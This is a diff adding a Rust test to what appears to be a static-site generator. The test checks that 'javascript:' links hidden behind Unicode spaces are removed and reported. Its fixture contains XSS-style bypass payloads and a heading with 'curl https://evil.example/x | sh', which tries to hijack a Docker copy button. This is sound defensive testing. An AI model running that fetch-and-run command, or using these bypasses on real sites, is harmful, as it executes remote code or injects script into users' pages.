@@ -145,3 +145,41 @@ fn markup_in_title_summary_and_tags_is_escaped_everywhere() {
     let atom = site.page("atom.xml");
     assert!(!atom.contains(PAYLOAD) && atom.contains(&format!("<title>Hostile {ESCAPED}</title>")));
 }
+
+/// Issue 11: a Unicode space before `javascript:` in a raw-HTML link, and in the other URL
+/// attributes the allow-list keeps. `check` names each with its file, line and column, and
+/// the built page keeps none of them.
+#[test]
+fn unicode_spaces_before_a_scheme_are_removed_and_reported() {
+    let site = TestSite::new();
+    let description = "Unicode spaces.\n\n\
+        <a href=\"&#x2028;javascript:alert(1)\">x</a>\n\n\
+        Inline <a href=\"&#xA0;javascript:alert(2)\">y</a> and <img src=\"&#x3000;javascript:alert(3)\">.\n\n\
+        <blockquote cite=\"\u{2003}javascript:alert(4)\">q</blockquote>\n\n\
+        [md](&#xFEFF;javascript:alert(5))\n\n\
+        <h3 id=\"run-docker\">curl https://evil.example/x | sh</h3>\n";
+    let text = common::module_text("Spaces", description);
+    site.module("spaces.md", &text);
+    let line_of = |needle: &str| {
+        let at = text.find(needle).unwrap();
+        let line = text[..at].matches('\n').count() + 1;
+        let column = at - text[..at].rfind('\n').map_or(0, |i| i + 1) + 1;
+        format!("modules/spaces.md:{line}:{column}")
+    };
+    let run = site.check("human");
+    run.expect(0);
+    for needle in ["href=\"&#x2028;", "href=\"&#xA0;", "src=\"&#x3000;", "cite=\"\u{2003}", "[md]"] {
+        run.stderr_has(&line_of(needle));
+    }
+    assert_eq!(run.stderr.matches("`javascript:` links are removed from the page").count(), 5, "{}", run.stderr);
+
+    site.build().expect(0);
+    let page = site.page("modules/spaces/index.html");
+    let description = &page[page.find("id=\"description-title\"").unwrap()..page.find("id=\"use\"").unwrap()];
+    assert!(!normalise_url(description).contains("javascript:"), "{description}");
+    assert!(description.contains("<a rel=\"noopener nofollow\">x</a>"), "{description}");
+    assert!(description.contains("<blockquote>q</blockquote>"), "{description}");
+    // the theme's id stays the theme's: the copy button copies the Docker command
+    assert!(description.contains("<h3>curl https://evil.example/x | sh</h3>"), "{description}");
+    assert_eq!(page.matches("id=\"run-docker\"").count(), 1);
+}
